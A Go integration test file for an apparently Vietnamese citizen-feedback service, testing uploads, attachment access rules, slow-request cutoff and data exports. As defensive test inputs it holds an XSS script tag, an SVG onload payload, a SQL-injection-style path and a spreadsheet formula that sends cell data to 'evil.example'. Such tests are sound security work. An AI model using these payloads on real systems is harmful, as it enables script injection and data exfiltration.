package graph_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"motcua"
	"motcua/db"
	"motcua/db/changelog"
	"motcua/internal/export"
	"motcua/search/feedback"
	"motcua/search/replica"
)

var pdf = []byte("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n")

// doors is a desk whose files come and go over a real connection.
type doors struct {
	*desk
	url string
}

func newDoors(t *testing.T, more ...*motcua.Record) *doors {
	t.Helper()
	d := newDesk(t, more...)
	s := httptest.NewServer(d.Handler)
	t.Cleanup(s.Close)
	return &doors{d, s.URL}
}

// doorReply is an answer of a door.
type doorReply struct {
	status int
	header http.Header
	body   string
}

func (d *doors) send(as, method, path string, body io.Reader, header ...string) doorReply {
	d.t.Helper()
	r, err := http.NewRequestWithContext(d.t.Context(), method, d.url+path, body)
	if err != nil {
		d.t.Fatal(err)
	}
	if as != "" {
		r.Header.Set("Authorization", "Bearer "+d.tokens[as])
	}
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		d.t.Fatal(err)
	}
	defer func() { _ = answer.Body.Close() }()
	text, err := io.ReadAll(answer.Body)
	if err != nil {
		d.t.Fatal(err)
	}
	return doorReply{answer.StatusCode, answer.Header, string(text)}
}

// place asks for a place for a file.
func (d *doors) place(as string) (id, path string) {
	d.t.Helper()
	a := d.asked(as, `mutation { m: createUpload(input: {}) { upload { id url maxBytes mediaTypes } userErrors { code } } }`, nil, true)
	var p struct{ Upload struct{ ID, URL string } }
	if err := json.Unmarshal(a.Data["m"], &p); err != nil || p.Upload.URL == "" {
		d.t.Fatalf("%v %+v", err, a)
	}
	return p.Upload.ID, p.Upload.URL
}

func TestUpload(t *testing.T) {
	d := newDoors(t)
	endless := io.MultiReader(bytes.NewReader(pdf), io.LimitReader(zeros{}, motcua.MaxUploadBytes))
	_, expired := d.place("")
	d.exec(t, `update upload set expires_at = created_at`)
	for _, c := range []struct {
		name string
		path string
		body io.Reader
		want int
		code string
	}{
		{"of a type that is taken", "", bytes.NewReader(pdf), 201, ""},
		{"a page that says it is a picture", "", strings.NewReader("<html><script>alert(1)</script></html>"), 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"a drawing with a script", "", strings.NewReader(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"nothing", "", strings.NewReader(""), 415, "UNSUPPORTED_MEDIA_TYPE"},
		{"too large, as it says", "", bytes.NewReader(make([]byte, motcua.MaxUploadBytes+1)), 413, "LIMIT_EXCEEDED"},
		{"too large, without saying so", "", endless, 413, "LIMIT_EXCEEDED"},
		{"to no place", "/uploads/" + string(motcua.DeriveID("none")), bytes.NewReader(pdf), 404, "NOT_FOUND"},
		{"to what is no place", "/uploads/1%20or%201=1", bytes.NewReader(pdf), 404, "NOT_FOUND"},
		{"too late", expired, bytes.NewReader(pdf), 404, "NOT_FOUND"},
	} {
		t.Run(c.name, func(t *testing.T) {
			path := c.path
			if path == "" {
				_, path = d.place("")
			}
			got := d.send("", "PUT", path, c.body, "Content-Type", "image/png")
			if got.status != c.want || !strings.Contains(got.body, c.code) {
				t.Errorf("%d %s", got.status, got.body)
			}
			if again := d.send("", "PUT", path, bytes.NewReader(pdf)); c.want != 413 && again.status != 404 {
				t.Errorf("a second time: %d %s", again.status, again.body)
			}
		})
	}
	if got := d.send("", "GET", expired, nil); got.status != 405 {
		t.Errorf("fetched from a place: %d", got.status)
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) { clear(b); return len(b), nil }

// A sender who stops sending is cut off, and does not hold a place for others.
func TestSlowUploadIsCutOff(t *testing.T) {
	d := newDesk(t)
	for name, n := range map[string]int{"upload-pause": 200, "uploads": 1} {
		if err := d.config.Limits.Set(name, n); err != nil {
			t.Fatal(err)
		}
	}
	d.serve(t)
	s := httptest.NewServer(d.Handler)
	t.Cleanup(s.Close)
	slow := &doors{d, s.URL}
	_, path := slow.place("")
	conn, err := net.Dial("tcp", s.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	if _, err := fmt.Fprintf(conn, "PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n%s", path, pdf); err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	_ = conn.SetReadDeadline(began.Add(10 * time.Second))
	got, err := io.ReadAll(conn)
	if took := time.Since(began); err != nil || took > 5*time.Second || !strings.HasPrefix(string(got), "HTTP/1.1 408") {
		t.Errorf("after %s: %q %v", took, got, err)
	}
	if _, path = slow.place(""); slow.send("", "PUT", path, bytes.NewReader(pdf)).status != 201 {
		t.Error("the place is still held")
	}
}

// attached sends feedback with a file and gives both.
func (d *doors) attached() (f *seen, secret, file string) {
	d.t.Helper()
	id, path := d.place("")
	if got := d.send("", "PUT", path, bytes.NewReader(pdf)); got.status != 201 {
		d.t.Fatalf("%d %s", got.status, got.body)
	}
	in := input("Hồ sơ đất đai bị trả lại nhiều lần", "Tôi nộp hồ sơ đăng ký biến động đất đai từ tháng ba nhưng bị trả lại ba lần không rõ lý do.")
	in["uploads"] = []string{id}
	f, secret = d.submit(in)
	again := d.asked("", submitQuery, map[string]any{"in": in}, false)
	if code := again.code("submitFeedback"); code != "INVALID" {
		d.t.Errorf("a file of two: %q", code)
	}
	return f, secret, "/attachments/" + id
}

// Whoever reads the words may have the file; for all others there is none, until
// a publisher shows it and the feedback is published.
func TestAttachmentIsSeenByTheRule(t *testing.T) {
	d := newDoors(t)
	f, secret, file := d.attached()
	sender := []string{"Feedback-Code", f.Code, "Feedback-Secret", secret}
	check := func(when string, want map[string]int) {
		t.Helper()
		for as, status := range want {
			var header []string
			name := as
			if as == "sender" {
				name, header = "", sender
			}
			got := d.send(name, "GET", file, nil, header...)
			if got.status != status || status == 200 && got.body != string(pdf) || status != 200 && strings.Contains(got.body, "PDF-1.7") {
				t.Errorf("%s, %q: %d %s", when, as, got.status, got.body)
			}
			if status != 200 {
				continue
			}
			for header, want := range map[string]string{"Content-Type": "application/pdf", "X-Content-Type-Options": "nosniff", "Content-Disposition": `attachment; filename="tep-1.pdf"`, "Cache-Control": "private, no-store"} {
				if got.header.Get(header) != want {
					t.Errorf("%s is %q", header, got.header.Get(header))
				}
			}
		}
	}
	closed := map[string]int{"": 404, "outsider": 404, "ministry": 404, "auditor": 404, "erasing": 404, "receiver": 200, "handler": 200, "publisher": 200, "whole": 200, "sender": 200}
	check("as sent", closed)
	if got := d.send("", "GET", file, nil, "Feedback-Code", f.Code, "Feedback-Secret", "wrong"); got.status != 404 {
		t.Errorf("a wrong secret: %d", got.status)
	}
	for as, want := range map[string]string{"": "NOT_FOUND", "outsider": "NOT_FOUND", "handler": "FORBIDDEN", "auditor": "FORBIDDEN"} {
		if code := d.show(as, file, true); code != want {
			t.Errorf("shown by %q: %q, want %s", as, code, want)
		}
	}
	d.walkToPublished(f)
	check("published, not shown", closed)
	if code := d.show("publisher", file, true); code != "" {
		t.Fatal(code)
	}
	check("published and shown", map[string]int{"": 200, "outsider": 200, "auditor": 200, "sender": 200})
	if code := d.act("publisher", "unpublishFeedback", f, `note: "Còn sai sót"`); code != "" {
		t.Fatal(code)
	}
	check("taken back", closed)
	log := d.asked("auditor", `{ auditLog(first: 100, filter: {entity: "ATTACHMENT"}) { totalCount nodes { action what subject agency { code } } } }`, nil, true)
	if text := string(log.Data["auditLog"]); !strings.Contains(text, `"UPLOAD"`) || !strings.Contains(text, `"DOWNLOAD"`) || !strings.Contains(text, `"SHOWN"`) || !strings.Contains(text, `"sender"`) || !strings.Contains(text, "H60") {
		t.Error(text)
	}
	// With the sender's key the file's own is gone: nothing opens the bytes any more.
	d.must("erasing", "eraseSender", f, "")
	check("erased", map[string]int{"": 404, "receiver": 404, "whole": 404, "sender": 404})
	var left int
	if err := d.desk.desk().Pool().QueryRow(t.Context(), `select count(*) from feedback_attachment where file_key is not null or sha256 is not null`).Scan(&left); err != nil || left > 0 {
		t.Errorf("%d keys of files are left, %v", left, err)
	}
	d.leaks()
}

func (d *doors) show(as, file string, public bool) string {
	d.t.Helper()
	a := d.asked(as, fmt.Sprintf(`mutation { m: showAttachment(input: {id: %q public: %t}) { feedback { id } userErrors { code } } }`, file[len("/attachments/"):], public), nil, false)
	return a.code("m")
}

// walkToPublished brings feedback to its end.
func (d *desk) walkToPublished(f *seen) {
	d.t.Helper()
	d.must("receiver", "receiveFeedback", f, "")
	d.must("receiver", "classifyFeedback", f, "class: PROCEDURE")
	d.must("handler", "assignFeedback", f, fmt.Sprintf("assignee: %q", d.subject("handler")))
	d.must("handler", "answerFeedback", f, `answer: "Sở Tư pháp đã kiểm tra và sẽ trả kết quả trong tuần tới."`)
	d.must("approver", "approveAnswer", f, "")
	d.must("handler", "proposeRedaction", f, `title: "Hồ sơ đất đai bị trả lại" text: "Hồ sơ đăng ký biến động đất đai bị trả lại ba lần." answer: "Sở Tư pháp sẽ trả kết quả trong tuần tới."`)
	d.must("publisher", "confirmRedaction", f, "")
	d.must("publisher", "publishFeedback", f, "")
}

func TestExport(t *testing.T) {
	formula := `=HYPERLINK("https://evil.example?"&A1,"Xem")`
	evil := provincial("evil", "4.000002", province)
	evil.Content.Name = formula
	d := newDoors(t, evil)
	link := func(as, format string) string {
		t.Helper()
		a := d.asked(as, `mutation { m: createExport(input: {format: `+format+`, procedures: {collapse: false}}) { export { url format expiresAt } userErrors { code } } }`, nil, true)
		var p struct{ Export struct{ URL string } }
		if err := json.Unmarshal(a.Data["m"], &p); err != nil {
			t.Fatalf("%+v", a)
		}
		return p.Export.URL
	}
	csv := link("handler", "CSV")
	got := d.send("", "GET", csv, nil)
	if got.status != 200 || !strings.HasPrefix(got.body, "\ufeffcode,name,") || !strings.HasSuffix(got.body, "\r\n#rows,3\r\n") {
		t.Errorf("%d %s", got.status, got.body)
	}
	if !strings.Contains(got.body, `"'=HYPERLINK(`) || strings.Contains(got.body, `,"=HYPERLINK(`) {
		t.Errorf("a formula goes out: %s", got.body)
	}
	if disposition := got.header.Get("Content-Disposition"); disposition != `attachment; filename="procedures-`+today+`.csv"` || got.header.Get("Cache-Control") != "no-store" {
		t.Errorf("%v", got.header)
	}
	if again := d.send("", "GET", csv, nil); again.status != 404 {
		t.Errorf("fetched twice: %d", again.status)
	}
	lines := strings.Split(strings.TrimSpace(d.send("", "GET", link("handler", "JSONL"), nil).body), "\n")
	var row struct{ Name string }
	if err := json.Unmarshal([]byte(lines[0]), &row); err != nil || len(lines) != 4 || lines[3] != `{"#rows":3}` || row.Name != formula {
		t.Errorf("%v %q %v", lines, row.Name, err)
	}
	if sheet := d.send("", "GET", link("handler", "XLSX"), nil); sheet.status != 200 || !strings.HasPrefix(sheet.body, "PK") {
		t.Errorf("%d", sheet.status)
	}
	if code := d.asked("", `mutation { m: createExport(input: {format: CSV, procedures: {}}) { userErrors { code } } }`, nil, false).code("m"); code != "FORBIDDEN" {
		t.Errorf("by nobody: %q", code)
	}
	if code := d.asked("handler", `mutation { m: createExport(input: {format: CSV}) { userErrors { code } } }`, nil, false).code("m"); code != "INVALID" {
		t.Errorf("of nothing: %q", code)
	}
	for range motcua.MaxExportsAnHour - 3 {
		link("handler", "CSV")
	}
	if code := d.asked("handler", `mutation { m: createExport(input: {format: CSV, procedures: {}}) { userErrors { code } } }`, nil, false).code("m"); code != "LIMITED" {
		t.Errorf("one too many: %q", code)
	}
	log := d.asked("auditor", `{ auditLog(first: 100, filter: {action: EXPORT}) { nodes { what rows subject } } }`, nil, true)
	if text := string(log.Data["auditLog"]); !strings.Contains(text, `{"what":"CSV","rows":3,"subject":"key:`) || !strings.Contains(text, "XLSX_BEGUN") {
		t.Error(text)
	}
}

// indexed has the desk list its feedback as it is now.
func (d *doors) indexed() {
	d.t.Helper()
	store, log := d.database(d.t), slog.New(slog.DiscardHandler)
	x, err := feedback.Open(d.t.TempDir(), replica.Options{Log: log, Clock: clock()})
	if err != nil {
		d.t.Fatal(err)
	}
	d.t.Cleanup(func() { _ = x.Close() })
	changes := changelog.New(store.Pool(), "test-feedback", log)
	for _, err := range []error{
		x.Official.Rebuild(d.t.Context(), changes.OfFeedback("official", store.MaskedFeedback)),
		x.Public.Rebuild(d.t.Context(), changes.OfFeedback("public", db.PublishedFeedback)),
	} {
		if err != nil {
			d.t.Fatal(err)
		}
	}
	d.config.FeedbackSearcher = x
	d.config.Files.Exporter = &export.Exporter{Feedback: x, FeedbackRows: store, Clock: clock()}
	d.serve(d.t)
	s := httptest.NewServer(d.Handler)
	d.t.Cleanup(s.Close)
	d.url = s.URL
}

// A file holds exactly the list that its asker sees, and nothing private.
func TestExportOfFeedback(t *testing.T) {
	d := newDoors(t)
	open, _ := d.submit(input("Cấp giấy khai sinh chậm", "Tôi nộp hồ sơ đăng ký khai sinh cho con đã một tháng mà chưa nhận được kết quả nào."))
	public, _, _ := d.attached()
	d.walkToPublished(public)
	d.indexed()
	for _, c := range []struct {
		as, list string
		rows     int
		holds    []string
		lacks    []string
	}{
		{"handler", ``, 2, []string{open.Code, public.Code, "key:"}, nil},
		{"handler", `filter: {states: [PUBLISHED]}`, 1, []string{public.Code}, []string{open.Code}},
		{"handler", `search: "khai sinh"`, 1, []string{open.Code}, []string{public.Code}},
		{"handler", fmt.Sprintf(`search: %q`, open.Code), 1, []string{open.Code}, []string{public.Code}},
		{"outsider", ``, 0, nil, []string{open.Code, public.Code}},
		{"outsider", `published: true`, 1, []string{"PUBLISHED", "Hồ sơ đất đai bị trả lại"}, []string{public.Code, "key:"}},
	} {
		a := d.asked(c.as, `{ feedbacks(first: 0 `+c.list+`) { totalCount } }`, nil, false)
		if want := fmt.Sprintf(`{"totalCount":%d}`, c.rows); string(a.Data["feedbacks"]) != want {
			t.Errorf("%s %s: %s", c.as, c.list, a.Data["feedbacks"])
		}
		a = d.asked(c.as, `mutation { m: createExport(input: {format: JSONL, feedbacks: {`+c.list+`}}) { export { url } userErrors { code } } }`, nil, false)
		var p struct{ Export struct{ URL string } }
		if err := json.Unmarshal(a.Data["m"], &p); err != nil {
			t.Fatalf("%+v", a)
		}
		got := d.send("", "GET", p.Export.URL, nil)
		d.emitted.WriteString(got.body)
		if got.status != 200 || !strings.HasSuffix(got.body, fmt.Sprintf("{\"#rows\":%d}\n", c.rows)) {
			t.Errorf("%s %s: %d %s", c.as, c.list, got.status, got.body)
		}
		for _, text := range c.holds {
			if !strings.Contains(got.body, text) {
				t.Errorf("%s %s: no %q in %s", c.as, c.list, text, got.body)
			}
		}
		for _, text := range c.lacks {
			if strings.Contains(got.body, text) {
				t.Errorf("%s %s: %q in %s", c.as, c.list, text, got.body)
			}
		}
	}
	d.leaks()
}
